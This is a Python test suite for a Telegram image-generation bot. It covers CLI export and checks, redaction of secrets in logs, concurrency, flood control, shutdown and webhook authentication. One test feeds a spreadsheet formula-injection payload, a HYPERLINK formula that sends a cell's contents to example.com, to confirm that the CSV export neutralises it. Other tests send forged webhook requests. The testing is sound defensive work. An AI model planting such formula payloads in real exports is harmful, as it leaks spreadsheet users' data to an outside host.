"""SPEC section 5, "Running": the CLI, logs without secrets, concurrency, flood control,
stopping, and webhook mode (the README's "Webhooks")."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import os
import socket
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from bot.app import Runtime
from bot.config import Settings, load_settings
from bot.errors import (
    ConfigError,
)
from bot.ledger import open_ledger
from bot.logs import REDACTED
from tests.fakes import gateway as gw
from tests.fakes.gateway import FakeGateway
from tests.fakes.images import png
from tests.fakes.telegram import FakeTelegram
from tests.support.bot import (
    API_KEY,
    TOKEN,
    StartBot,
    ask,
    run_cli,
    run_cli_async,
    settle,
    texts_to,
    to_chat,
    today,
)

SECRET = "hook-secret_123"


class TestCli:
    """`python -m bot stats` and `export` read the same ledger."""

    async def test_stats_and_export(
        self, start_bot: StartBot, telegram: FakeTelegram, tmp_path: Path
    ) -> None:
        """The summary and a CSV with one row per request."""
        db = tmp_path / "cli.sqlite3"
        ann = telegram.user(1, username="ann")
        async with start_bot(database_path=db):
            telegram.send_text(ann, telegram.private_chat(ann), "a cat")
            await telegram.wait_for("sendPhoto")
        env = {"PATH": os.environ["PATH"], "DATABASE_PATH": str(db)}
        stats = run_cli(["stats"], env, tmp_path)
        assert "1 request, 1 image," in stats and "@ann" in stats
        exported = run_cli(["export", "--since", "2000-01-01"], env, tmp_path)
        [row] = list(csv.DictReader(io.StringIO(exported)))
        assert (row["user_id"], row["status"], row["prompt"]) == ("1", "ok", "a cat")
        assert run_cli(["export", "--since", "2999-01-01"], env, tmp_path).startswith("id,")

    async def test_csv_is_safe_to_open_in_a_spreadsheet(
        self, start_bot: StartBot, telegram: FakeTelegram, tmp_path: Path
    ) -> None:
        """A prompt that is a formula comes out as text (SPEC section 5)."""
        db = tmp_path / "cli.sqlite3"
        formula = '=HYPERLINK("http://example.com/?"&A1,"click")'
        ann = telegram.user(1, username="@ann")
        async with start_bot(database_path=db):
            telegram.send_text(ann, telegram.private_chat(ann), formula)
            await telegram.wait_for("sendPhoto")
        env = {"PATH": os.environ["PATH"], "DATABASE_PATH": str(db)}
        [row] = csv.DictReader(
            io.StringIO(run_cli(["export", "--since", "2000-01-01"], env, tmp_path))
        )
        assert row["prompt"] == "'" + formula
        assert row["username"] == "'@ann"
        assert row["user_id"] == "1"
        assert run_cli(["payments"], env, tmp_path).startswith("charge_id,")

    async def test_check_passes_against_a_working_deployment(
        self, telegram: FakeTelegram, gateway: FakeGateway, tmp_path: Path
    ) -> None:
        """`python -m bot check`: one line per check, exit 0 (SPEC section 5)."""
        status, out = await run_cli_async(["check"], self.deployment(telegram, gateway), tmp_path)
        assert status == 0, out
        lines = out.strip().splitlines()
        assert [line.split(":")[0] for line in lines] == [
            "ok   config",
            "ok   telegram",
            "ok   gateway",
        ]
        assert "@flash_test_bot" in lines[1]

    async def test_check_says_what_to_fix(
        self, telegram: FakeTelegram, gateway: FakeGateway, tmp_path: Path
    ) -> None:
        gateway.models[:] = ["gemini-2.5-flash-image"]
        revoked = "1:AAHrevokedTok3nValue"
        env = self.deployment(telegram, gateway) | {"TELEGRAM_BOT_TOKEN": revoked}
        status, out = await run_cli_async(["check"], env, tmp_path)
        assert status == 1
        assert "FAIL telegram: Telegram rejected the token" in out
        assert "FAIL gateway: the key may not use gemini-2.5-flash-image-hd" in out
        assert "AAHrevokedTok3nValue" not in out
        status, out = await run_cli_async(
            ["check"], self.deployment(telegram, gateway) | {"IMAGE_API_KEY": "sk-wrong"}, tmp_path
        )
        assert status == 1 and "FAIL gateway: the key was refused (HTTP 401)" in out

    @staticmethod
    def deployment(telegram: FakeTelegram, gateway: FakeGateway) -> dict[str, str]:
        return {
            "TELEGRAM_BOT_TOKEN": TOKEN,
            "TELEGRAM_API_URL": telegram.url,
            "IMAGE_API_BASE_URL": gateway.url,
            "IMAGE_API_KEY": API_KEY,
        }


class TestSecretsInLogs:
    """Neither the bot token nor the API key ever reaches a log line."""

    async def test_a_busy_session_logs_no_secret(
        self,
        log_stream: io.StringIO,
        start_bot: StartBot,
        telegram: FakeTelegram,
        gateway: FakeGateway,
    ) -> None:
        """Requests, gateway errors, Telegram errors at DEBUG: no token, no key."""
        gateway.enqueue(gw.error(401, "invalid token"), gw.error(503), gw.markdown_urls("x"))
        telegram.fail_next("sendMessage", status=502, description="Bad Gateway")
        ann = telegram.user(1)
        async with start_bot(log_level="DEBUG"):
            chat = telegram.private_chat(ann)
            for prompt in ("one", "two", "three"):
                telegram.send_text(ann, chat, prompt)
                await gateway.wait_for_requests(len(gateway.requests) + 1, timeout=15)
            await telegram.wait_for("sendPhoto", timeout=15)
            logging.getLogger("test").warning("leak attempt: %s %s", TOKEN, API_KEY)
        output = log_stream.getvalue()
        assert "request id=" in output and "status=failed" in output
        assert f"leak attempt: {REDACTED} {REDACTED}" in output
        assert TOKEN not in output
        assert API_KEY not in output
        assert TOKEN.split(":")[1] not in output


class TestConcurrency:
    """One user's slow image never delays another user."""

    async def test_slow_request_does_not_delay_another_user(
        self, bot: Runtime, telegram: FakeTelegram, gateway: FakeGateway
    ) -> None:
        """Ann's 5 s request is still running when Bob's 0.2 s request is delivered."""
        gateway.responder = lambda req: gw.markdown(png(), delay=5 if "slow" in req.prompt else 0.2)
        ann, bob = telegram.user(1), telegram.user(2, "Bob")
        telegram.send_text(ann, telegram.private_chat(ann), "slow painting")
        await gateway.wait_for_requests(1)
        telegram.send_text(bob, telegram.private_chat(bob), "quick sketch")
        [bobs] = await telegram.wait_for("sendPhoto", where=to_chat(2), timeout=10)
        assert not telegram.calls_of("sendPhoto") or all(
            c.params["chat_id"] == 2 for c in telegram.calls_of("sendPhoto")
        )
        [anns] = await telegram.wait_for("sendPhoto", where=to_chat(1), timeout=10)
        assert bobs.at < anns.at
        assert bobs.at - gateway.requests[1].at < 1.0

    async def test_queue_position_is_told(
        self, start_bot: StartBot, telegram: FakeTelegram, gateway: FakeGateway
    ) -> None:
        """With every gateway slot busy, the next user hears their place in the queue."""
        gateway.default = gw.markdown(png(), delay=1.5)
        async with start_bot(max_concurrent_requests=1):
            ann, bob = telegram.user(1), telegram.user(2, "Bob")
            telegram.send_text(ann, telegram.private_chat(ann), "first")
            await gateway.wait_for_requests(1)
            telegram.send_text(bob, telegram.private_chat(bob), "second")
            await telegram.wait_for("sendPhoto", count=2, timeout=15)
        notices = [m for m in telegram.sent_messages(2) if "queue" in m.get("text", "")]
        assert len(notices) == 1 and "number 1" in notices[0]["text"]
        assert telegram.calls_of("deleteMessage")  # the notice is removed once it runs
        # Bob's chat shows "sending photo…" once his request runs, not while it waits.
        bobs_status = [c for c in telegram.calls_of("sendChatAction") if to_chat(2)(c)]
        assert bobs_status[0].at - gateway.requests[0].at >= 1.0  # Ann's 1.5 s came first

    async def test_third_request_in_flight_is_refused(
        self, bot: Runtime, telegram: FakeTelegram, gateway: FakeGateway
    ) -> None:
        """At most 2 requests per user in flight; the third gets a short answer."""
        gateway.default = gw.markdown(png(), delay=1.5)
        ann = telegram.user(1)
        chat = telegram.private_chat(ann)
        for prompt in ("one", "two"):
            telegram.send_text(ann, chat, prompt)
        await gateway.wait_for_requests(2)
        telegram.send_text(ann, chat, "three")
        await telegram.wait_for("sendPhoto", count=2, timeout=10)
        assert any("Still working" in t for t in texts_to(telegram, 1))
        assert len(gateway.requests) == 2

    async def test_a_burst_in_a_paced_chat_gets_its_results_first(
        self, bot: Runtime, telegram: FakeTelegram, gateway: FakeGateway
    ) -> None:
        """30 prompts pasted at once into a chat Telegram paces at one message a second:
        one "still working" sentence, reactions for the rest, and both results within a few
        seconds of the gateway's answer, not behind 28 notices (SPEC section 5)."""
        gateway.default = gw.markdown(png(), delay=1.0)
        ann = telegram.user(1)
        chat = telegram.private_chat(ann)
        telegram.pace(chat["id"], per_second=1.0)
        for n in range(30):
            telegram.send_text(ann, chat, f"prompt {n}")
        photos = await telegram.wait_for("sendPhoto", count=2, where=lambda c: c.ok, timeout=8)
        assert max(p.at for p in photos) - photos[0].at < 4
        notices = [t for t in texts_to(telegram, 1) if "Still working" in t]
        assert len(notices) == 1
        assert telegram.reactions
        assert len(gateway.requests) == 2


class TestOperatorAlerts:
    """SPEC section 5: one message per admin per episode, and one when it ends."""

    ADMIN = 99

    async def test_balance_dry_is_told_once_and_its_end_announced(
        self, start_bot: StartBot, telegram: FakeTelegram, gateway: FakeGateway
    ) -> None:
        dry = gw.error(
            403, "用户额度不足, 剩余额度: ＄0.01 (request id: X)", code="insufficient_user_quota"
        )
        gateway.enqueue(dry, dry, gw.markdown(png()))
        admin = telegram.user(self.ADMIN, "Boss")
        ann = telegram.user(1)
        async with start_bot(admin_user_ids=str(self.ADMIN)):
            await ask(telegram, admin, "/help")
            for prompt in ("one", "two"):
                assert "unavailable right now" in await ask(telegram, ann, prompt)
            telegram.send_text(ann, telegram.private_chat(ann), "three")
            await telegram.wait_for("sendPhoto", timeout=15)
            await settle(0.5)
        told = texts_to(telegram, self.ADMIN)[1:]
        assert len(told) == 2
        assert told[0].startswith("⚠️ The gateway account has run out of balance")
        assert told[1].startswith("✅ The gateway account works again")
        assert all("剩余额度" not in t for t in texts_to(telegram, 1))

    async def test_five_failures_in_a_row(
        self, start_bot: StartBot, telegram: FakeTelegram, gateway: FakeGateway
    ) -> None:
        gateway.enqueue(*[gw.error(400, "nope")] * 6)
        admin = telegram.user(self.ADMIN, "Boss")
        ann = telegram.user(1)
        async with start_bot(admin_user_ids=str(self.ADMIN)):
            await ask(telegram, admin, "/help")
            for n in range(6):
                await ask(telegram, ann, f"prompt {n}")
            await settle(0.5)
        told = texts_to(telegram, self.ADMIN)[1:]
        assert len(told) == 1 and "5 requests in a row failed" in told[0]


class TestFloodControl:
    """Telegram's 429 is honoured and the image still arrives."""

    async def test_retry_after_on_send_photo(
        self, bot: Runtime, telegram: FakeTelegram, gateway: FakeGateway
    ) -> None:
        """sendPhoto answers 429 retry_after=1 once: the photo is sent again after 1 s."""
        telegram.fail_next("sendPhoto", status=429, retry_after=1)
        ann = telegram.user(1)
        telegram.send_text(ann, telegram.private_chat(ann), "a cat")
        await telegram.wait_for("sendPhoto", where=lambda c: c.ok, timeout=15)
        refused, sent = telegram.calls_of("sendPhoto")
        assert refused.status == 429
        assert sent.at - refused.at >= 1.0

    async def test_flood_wait_in_one_chat_does_not_hold_back_another(
        self, bot: Runtime, telegram: FakeTelegram, gateway: FakeGateway
    ) -> None:
        """Ann's chat waits out its 429 (2 s); Bob's photo goes out meanwhile."""
        telegram.fail_next("sendPhoto", status=429, retry_after=2)
        ann, bob = telegram.user(1), telegram.user(2, "Bob")
        telegram.send_text(ann, telegram.private_chat(ann), "a cat")
        [refused] = await telegram.wait_for("sendPhoto", where=lambda c: c.status == 429)
        telegram.send_text(bob, telegram.private_chat(bob), "a dog")
        [bobs] = await telegram.wait_for(
            "sendPhoto", where=lambda c: c.ok and c.params["chat_id"] == 2
        )
        [anns] = await telegram.wait_for(
            "sendPhoto", where=lambda c: c.ok and c.params["chat_id"] == 1, timeout=10
        )
        assert bobs.at - refused.at < 1.0
        assert anns.at - refused.at >= 2.0


class TestShutdown:
    """Stopping lets in-flight requests finish within the grace period."""

    async def test_in_flight_request_finishes_on_stop(
        self, start_bot: StartBot, telegram: FakeTelegram, gateway: FakeGateway
    ) -> None:
        """A request running when the stop comes is still delivered."""
        gateway.default = gw.markdown(png(), delay=1.0)
        async with start_bot() as runtime:
            ann = telegram.user(1)
            telegram.send_text(ann, telegram.private_chat(ann), "a dog")
            await gateway.wait_for_requests(1)
        assert telegram.calls_of("sendPhoto")
        assert runtime.tracker.running == 0

    async def test_request_past_the_grace_period_is_failed_and_released(
        self, start_bot: StartBot, telegram: FakeTelegram, gateway: FakeGateway
    ) -> None:
        """A request that cannot finish in time is recorded as failed, its units freed."""
        gateway.default = gw.hang()
        async with start_bot(shutdown_grace=0.5) as runtime:
            ann = telegram.user(1)
            telegram.send_text(ann, telegram.private_chat(ann), "a dog")
            await gateway.wait_for_requests(1)
            await asyncio.sleep(0.1)

        async with open_ledger(runtime.settings.database_path) as ledger:
            [row] = await ledger.requests.recent(1)
            assert row.status == "failed" and row.error == "interrupted"
            assert await ledger.spending.used_units(1, today()) == 0


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@pytest.fixture
def hook() -> dict[str, Any]:
    port = free_port()
    return {
        "webhook_url": f"http://127.0.0.1:{port}/telegram/hook",
        "webhook_listen": "127.0.0.1",
        "webhook_port": port,
    }


class TestWebhook:
    """With WEBHOOK_URL set, updates arrive by webhook instead of long polling."""

    async def test_updates_arrive_by_webhook(
        self,
        start_bot: StartBot,
        telegram: FakeTelegram,
        gateway: FakeGateway,
        hook: dict[str, Any],
    ) -> None:
        """setWebhook carries the URL and secret; a pushed text is answered with a photo."""
        async with start_bot(webhook_secret=SECRET, **hook):
            [registered] = telegram.calls_of("setWebhook")
            assert registered.params["url"] == hook["webhook_url"]
            assert registered.params["secret_token"] == SECRET
            ann = telegram.user(1)
            telegram.send_text(ann, telegram.private_chat(ann), "a harbour at night")
            await telegram.wait_for("sendPhoto")
        assert telegram.webhook_deliveries == [200]
        assert telegram.calls_of("getUpdates") == []
        assert gateway.requests[0].prompt == "a harbour at night"

    @pytest.mark.parametrize("header", [None, "wrong-secret"])
    async def test_missing_or_wrong_secret_is_rejected(
        self, start_bot: StartBot, gateway: FakeGateway, hook: dict[str, Any], header: str | None
    ) -> None:
        """A request without the right secret header is refused and never handled."""
        update = {
            "update_id": 1,
            "message": {
                "message_id": 1,
                "date": 0,
                "chat": {"id": 1, "type": "private"},
                "from": {"id": 1, "is_bot": False, "first_name": "Eve"},
                "text": "a forged request",
            },
        }
        headers = {"Content-Type": "application/json"}
        if header:
            headers["X-Telegram-Bot-Api-Secret-Token"] = header
        async with start_bot(webhook_secret=SECRET, **hook), aiohttp.ClientSession() as http:
            url = str(hook["webhook_url"])
            async with http.post(url, data=json.dumps(update), headers=headers) as response:
                assert response.status == 403
        assert gateway.requests == []

    async def test_a_secret_header_of_raw_bytes_is_refused(
        self, start_bot: StartBot, gateway: FakeGateway, hook: dict[str, Any]
    ) -> None:
        """A header that is not text at all is a wrong secret too (403), not a server error."""
        async with start_bot(webhook_secret=SECRET, **hook):
            port, path = int(hook["webhook_port"]), "/telegram/hook"
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            body = b'{"update_id": 1}'
            writer.write(
                f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n".encode()
                + b"X-Telegram-Bot-Api-Secret-Token: \xff\xfe\r\n"
                + f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n".encode()
                + b"Connection: close\r\n\r\n"
                + body
            )
            status_line = await reader.readline()
            writer.close()
        assert status_line.split()[1] == b"403"
        assert gateway.requests == []

    async def test_an_unreadable_update_is_skipped_not_sent_again(
        self,
        start_bot: StartBot,
        telegram: FakeTelegram,
        gateway: FakeGateway,
        hook: dict[str, Any],
        caplog: pytest.LogCaptureFixture,
    ) -> None:
        """A body that is not an update is answered 200 (Telegram would otherwise deliver it
        for ever), logged with the reason, and handled no further; the next update is served
        as usual."""
        headers = {"Content-Type": "application/json", "X-Telegram-Bot-Api-Secret-Token": SECRET}
        async with start_bot(webhook_secret=SECRET, **hook), aiohttp.ClientSession() as http:
            url = str(hook["webhook_url"])
            for body in ("{not json", '{"update_id": "x", "message": 5}'):
                async with http.post(url, data=body, headers=headers) as response:
                    assert response.status == 200
            async with http.get(url, headers=headers) as response:
                assert response.status == 405
            ann = telegram.user(1)
            telegram.send_text(ann, telegram.private_chat(ann), "a lighthouse")
            await telegram.wait_for("sendPhoto")
        assert [request.prompt for request in gateway.requests] == ["a lighthouse"]
        skipped = [r for r in caplog.records if r.getMessage().startswith("skipped update")]
        assert [r.levelno for r in skipped] == [logging.ERROR, logging.ERROR]
        reason = skipped[1].exc_info  # what PTB tripped over, for the operator
        assert reason is not None and isinstance(reason[1], Exception)

    async def test_a_secret_is_made_up_when_none_is_configured(
        self, start_bot: StartBot, telegram: FakeTelegram, hook: dict[str, Any]
    ) -> None:
        """Without WEBHOOK_SECRET the bot still registers (and checks) a random secret."""
        async with start_bot(**hook):
            [registered] = telegram.calls_of("setWebhook")
        assert len(registered.params["secret_token"]) >= 32

    async def test_a_start_up_failure_shows_its_own_cause(
        self, start_bot: StartBot, hook: dict[str, Any]
    ) -> None:
        """The webhook port is taken: that error surfaces, not PTB's "still running"."""
        with socket.socket() as taken:
            taken.bind(("127.0.0.1", int(hook["webhook_port"])))
            taken.listen()
            with pytest.raises(Exception) as caught:
                async with start_bot(**hook):
                    pass
        assert "still running" not in str(caught.value)
        assert isinstance(caught.value, OSError) or "address" in str(caught.value).lower()

    def test_secret_must_be_what_telegram_accepts(self, monkeypatch: pytest.MonkeyPatch) -> None:
        """WEBHOOK_SECRET with characters Telegram refuses stops start-up."""
        monkeypatch.setenv("TELEGRAM_BOT_TOKEN", "1:x")
        monkeypatch.setenv("IMAGE_API_KEY", "k")
        monkeypatch.setenv("WEBHOOK_SECRET", "has spaces!")
        with pytest.raises(ConfigError, match="WEBHOOK_SECRET is invalid"):
            load_settings(Settings)
